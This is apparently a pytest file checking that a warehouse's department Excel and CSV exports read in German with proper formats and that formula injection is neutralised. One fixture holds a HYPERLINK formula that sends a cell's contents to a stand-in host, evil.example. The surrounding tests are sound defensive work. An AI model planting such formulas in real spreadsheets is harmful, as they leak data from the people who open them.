"""The department's Excel file as a department head opens it: German headers and code texts
from the dbt YAML and seed, number formats per column, widths, frozen header, filter, the
explanations sheet; and values that would be formulas stay text in xlsx and CSV."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import openpyxl
import pyarrow as pa
import pytest

from tests.unit.conftest import SYNTHETIC_MARTS
from tests.unit.test_department_exports import configure
from warehouse import exports as ex
from warehouse import labels
from warehouse import publish as pub

CONFIG = """\
organisation_code: swm
departments:
  - code: SB
    marts: [fct_cases, mart_outcomes, mart_finance_by_cost_centre_month]
    formats: [xlsx, csv]
"""
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Klick")'


def add_marts(home: Path) -> None:
    """A mart_outcomes with rates, money, years and dates, and cases whose case number and
    referral source are formulas (as a vendor export may deliver them)."""
    with duckdb.connect(str(home / "warehouse" / "build.duckdb")) as con:
        con.execute("""
            create or replace table marts.mart_outcomes as
            select 'swm' as organisation_code, 'SB' as department_code,
                   'SB-P' as program_code, p as period_type,
                   date '2024-01-01' as period_start, 2024 as year,
                   12::bigint as n_cases_closed, 9::bigint as n_planned_ends,
                   0.75::double as planned_end_rate,
            from (values ('year'), ('month')) as t(p)
        """)
        con.execute("""
            insert into marts.fct_cases (organisation_code, case_id, department_code,
                program_code, start_date, is_planned_end, mean_minutes)
            values ('swm', '=2+5', 'SB', 'SB-P', date '2024-02-02', true, 1.0),
                   ('swm', '-1+1', 'SB', 'SB-P', date '2024-02-03', false, 1.0),
                   ('swm', '@SUM(A1)', 'SB', 'SB-P', date '2024-02-04', false, 1.0)
        """)
        con.execute("alter table marts.fct_cases add column referral_source varchar")
        con.execute("alter table marts.fct_cases add column status varchar")
        con.execute("update marts.fct_cases set referral_source = ? where case_id = '=2+5'",
                    [HYPERLINK])
        con.execute("update marts.fct_cases set status = "
                    "case when end_date is null then 'open' else 'closed' end")


@pytest.fixture
def exported(synthetic_home: Path) -> Path:
    add_marts(synthetic_home)
    configure(synthetic_home, CONFIG)
    pub.publish((*SYNTHETIC_MARTS, "mart_outcomes"), run_id="run00001")
    ex.export_departments()
    return synthetic_home / "exports" / "SB" / "latest"


def test_outcomes_workbook_reads_in_german(exported: Path) -> None:
    workbook = openpyxl.load_workbook(exported / "mart_outcomes.xlsx")
    assert workbook.sheetnames == ["Erläuterungen", "Ergebnisse"]
    sheet = workbook["Ergebnisse"]
    header = [c.value for c in sheet[1]]
    assert header == [labels.column("mart_outcomes", c).label for c in (
        "organisation_code", "department_code", "program_code", "period_type", "period_start",
        "year", "n_cases_closed", "n_planned_ends", "planned_end_rate")]
    assert header[8] == "Quote planmäßiger Beendigungen" and header[4] == "Zeitraum von"
    assert all(c.font.b for c in sheet[1])
    row = {h: c for h, c in zip(header, sheet[3], strict=True)}  # year row (sorted after month)
    assert row["Zeitraumart"].value == "Jahr"  # code text from the seed
    assert row["Quote planmäßiger Beendigungen"].number_format == "0.0%"
    assert row["Beendigungen"].number_format == "#,##0"
    assert row["Jahr"].number_format == "0"
    assert row["Zeitraum von"].number_format == "dd.mm.yyyy"
    with duckdb.connect(str(pub.current_generation_file()), read_only=True) as con:
        rate = con.sql("select planned_end_rate from mart_outcomes "
                       "where period_type = 'year'").fetchall()[0][0]
    assert row["Quote planmäßiger Beendigungen"].value == pytest.approx(rate)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:I3"
    widths = {c: sheet.column_dimensions[c].width for c in "ABCDEFGHI"}
    assert widths["E"] >= 11 and widths["I"] >= len("Quote planmäßiger Beendigungen")


def test_money_is_in_euro(exported: Path) -> None:
    sheet = openpyxl.load_workbook(exported / "mart_finance_by_cost_centre_month.xlsx")[
        "Finanzen je Kostenstelle"]
    header = [c.value for c in sheet[1]]
    costs = sheet.cell(row=2, column=header.index("Kosten (€)") + 1)
    assert costs.number_format == '#,##0.00 "€"' and costs.value == pytest.approx(-99.99)
    assert sheet.cell(row=2, column=header.index("Monat") + 1).number_format == "dd.mm.yyyy"


def test_explanations_sheet_lists_every_column(exported: Path) -> None:
    workbook = openpyxl.load_workbook(exported / "mart_outcomes.xlsx")
    rows = list(workbook["Erläuterungen"].iter_rows(values_only=True))
    assert rows[0] == ("Tabelle", "Spalte", "Erläuterung", "Fallzahl (n) in Spalte",
                       "Technischer Name")
    by_name = {r[4]: r for r in rows[1:] if r[4]}
    rate = by_name["planned_end_rate"]
    assert rate[1] == "Quote planmäßiger Beendigungen" and rate[2]
    assert rate[3] == "Beendigungen"  # the n column, by its German label
    about = {r[0]: r[1] for r in rows if r[0] and not r[4]}
    manifest = pub.current_manifest()
    assert manifest is not None
    assert about["Generation"] == manifest["generation"] and about["Lauf"] == "run00001"
    assert workbook["Erläuterungen"].freeze_panes == "A2"


def test_formulas_in_delivered_text_stay_text(exported: Path) -> None:
    workbook = openpyxl.load_workbook(exported / "fct_cases.xlsx")
    sheet = workbook["Fälle"]
    header = [c.value for c in sheet[1]]
    cases = {r[header.index("Fall (Pseudonym)")].value: r for r in sheet.iter_rows(min_row=2)}
    for value in ("=2+5", "-1+1", "@SUM(A1)"):
        cell = cases[value][header.index("Fall (Pseudonym)")]
        assert cell.data_type == "s" and cell.value == value and cell.quotePrefix
    link = cases["=2+5"][header.index("Zugang")]
    assert link.data_type == "s" and link.value == HYPERLINK
    assert cases["=2+5"][header.index("Status")].value == "laufend"
    with (exported / "fct_cases.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter=";"))
    numbers = {r["Fall (Pseudonym)"] for r in rows}
    assert {"'=2+5", "'-1+1", "'@SUM(A1)"} <= numbers
    assert not any(n.startswith(ex.FORMULA_TRIGGERS) for n in numbers)
    assert {r["Zugang"] for r in rows} >= {"'" + HYPERLINK}


def test_neutralise() -> None:
    for text in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert ex.neutralise(text) == "'" + text
    assert ex.neutralise("Jugendamt") == "Jugendamt" and ex.neutralise("") == ""


def test_every_published_mart_column_has_a_german_label() -> None:
    for mart in ("fct_cases", "fct_goals", "fct_assessment_change", "mart_outcomes",
                 "mart_outcomes_by_dimension", "mart_impact", "mart_srs_report",
                 "mart_finance_by_cost_centre_month", "mart_deliveries", "dim_department",
                 "dim_program", "dim_cost_centre", "dim_date"):
        columns = labels.described_columns(mart)
        assert columns, mart
        for column in columns.values():
            assert column.label != column.name and column.description, (mart, column.name)
            if column.kind == "percent":
                assert column.n in columns, (mart, column.name)
        assert len(labels.sheet_name(mart)) <= ex.EXCEL_MAX_SHEET_NAME
    codes = labels.code_labels()
    assert all(c.codes in codes for m in ("fct_cases", "fct_goals") for c in
               labels.described_columns(m).values() if c.codes)


# Text values a mart's tests accept that read the same in German: DATEV's field names.
SAME_IN_GERMAN = {("dim_cost_centre", "kost_field")}


def test_every_coded_text_of_a_mart_reads_in_german() -> None:
    """A column whose dbt tests accept a fixed set of texts holds codes (open, contact_rows,
    unknown): each needs its German text, or the department head reads English."""
    import yaml

    codes = labels.code_labels()
    missing = []
    for path in sorted(labels.MARTS_YAML.glob("*.yml")):
        for model in (yaml.safe_load(path.read_text(encoding="utf-8")) or {}).get("models") or []:
            meta = (model.get("config") or {}).get("meta") or model.get("meta") or {}
            # The closed sets of the dbt tests and of the mart's Great Expectations suite.
            accepted: dict[str, list[object]] = dict((meta.get("gx") or {}).get("in_set") or {})
            for column in model.get("columns") or []:
                for test in column.get("data_tests") or []:
                    values = test.get("accepted_values") if isinstance(test, dict) else None
                    if values:
                        accepted.setdefault(column["name"], []).extend(
                            (values.get("arguments") or values)["values"])
            described = {c["name"]: c.get("meta") or {} for c in model.get("columns") or []}
            for name, values in accepted.items():
                if (model["name"], name) in SAME_IN_GERMAN:
                    continue
                texts = codes.get(described.get(name, {}).get("codes") or "", {})
                missing += [(model["name"], name, v) for v in values
                            if isinstance(v, str) and v not in texts]
    assert missing == []


def test_the_reason_of_a_rejected_file_reads_in_german(synthetic_home: Path) -> None:
    """mart_deliveries keeps the reader's English reason; the department's workbook and CSV
    show it in German ("Hinweis"), the Parquet for analysts as the mart has it."""
    from warehouse.reasons import translate

    english = ("line 3 is longer than 10,000,000 bytes; a broken export, the whole file is "
               "rejected")
    quoted = "1 of 3 rows rejected, more than the allowed share of 20%; first problem: row 2, " \
             "field contact_date: not a date DD.MM.YYYY"
    with duckdb.connect(str(synthetic_home / "warehouse" / "build.duckdb")) as con:
        con.execute("""
            create or replace table marts.mart_deliveries as
            select * from (values
                ('swm', 'SB', 'case_management/swm/SB/kontakte.csv', 'rejected', ?),
                ('swm', 'SB', 'case_management/swm/SB/faelle.csv', 'rejected', ?),
                ('swm', 'SB', 'case_management/swm/SB/ziele.csv', 'loaded', null),
                ('swm', 'SUB', 'case_management/swm/SUB/kontakte.csv', 'rejected', ?)
            ) as t(organisation_code, department_code, source_file, outcome, message)
        """, [english, quoted, english])
    configure(synthetic_home, CONFIG.replace(
        "[fct_cases, mart_outcomes, mart_finance_by_cost_centre_month]", "[mart_deliveries]"
    ).replace("[xlsx, csv]", "[xlsx, csv, parquet]"))
    pub.publish(SYNTHETIC_MARTS, run_id="run00001")
    ex.export_departments()
    latest = synthetic_home / "exports" / "SB" / "latest"
    german = {"case_management/swm/SB/kontakte.csv": "Zeile 3 ist länger als 10.000.000 Bytes; "
              "ein defekter Export, die ganze Datei ist abgewiesen",
              "case_management/swm/SB/faelle.csv": translate(quoted, "de"),
              "case_management/swm/SB/ziele.csv": None}
    assert german["case_management/swm/SB/faelle.csv"].startswith("1 von 3 Zeilen")
    sheet = openpyxl.load_workbook(latest / "mart_deliveries.xlsx")["Lieferungen"]
    header, *rows = sheet.iter_rows(values_only=True)
    assert {r[header.index("Datei")]: r[header.index("Hinweis")] for r in rows} == german
    with (latest / "mart_deliveries.csv").open(encoding="utf-8-sig", newline="") as fh:
        in_csv = {r["Datei"]: r["Hinweis"] for r in csv.DictReader(fh, delimiter=";")}
    assert in_csv == {k: v or "" for k, v in german.items()}
    import pandas as pd

    parquet = pd.read_parquet(latest / "mart_deliveries.parquet")
    assert set(parquet["message"].dropna()) == {english, quoted}


def test_an_unknown_translation_is_named_with_its_file(tmp_path: Path) -> None:
    (tmp_path / "odd.yml").write_text(
        "models:\n  - name: odd\n    columns:\n      - name: note\n"
        "        meta: {label_de: Notiz, translate: klingon}\n", encoding="utf-8")
    with pytest.raises(labels.LabelError, match="odd.yml: column odd.note: meta.translate "
                                                "'klingon' is not one of reasons"):
        labels._columns(tmp_path)


def test_rates_in_the_csv_are_percentages(exported: Path) -> None:
    """German Excel reads "75 %" as the percentage the workbook shows; a bare 0,75 in a column
    "Quote" reads as less than one percent."""
    with (exported / "mart_outcomes.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter=";"))
    assert {r["Quote planmäßiger Beendigungen"] for r in rows} == {"75 %"}
    assert {r["Beendigungen"] for r in rows} == {"12"}
    assert ex._csv_percent_column(pa.array([0.8333, 1.0, 0.0, None, 0.0005])) == [
        "83,33 %", "100 %", "0 %", "", "0,05 %"]


def test_a_list_of_codes_reads_in_german(synthetic_home: Path) -> None:
    """A file that feeds two entities is listed as "cases, clients" in mart_deliveries: the
    department reads "Fälle, Klient:innen", not the English codes."""
    assert labels.code_text("entity", "cases, clients") == "Fälle, Klient:innen"
    assert labels.code_text("entity", "cases, Unbekanntes") == "Fälle, Unbekanntes"
    assert labels.code_text("entity", "cases") == "Fälle"
    table = pa.table({"entity": ["cases, clients", None, "contacts", "cases, clients", "neu"]})
    sheet = ex.Sheet.of("mart_deliveries", table)
    assert sheet.values(0).to_pylist() == [
        "Fälle, Klient:innen", None, "Kontakte", "Fälle, Klient:innen", "neu"]
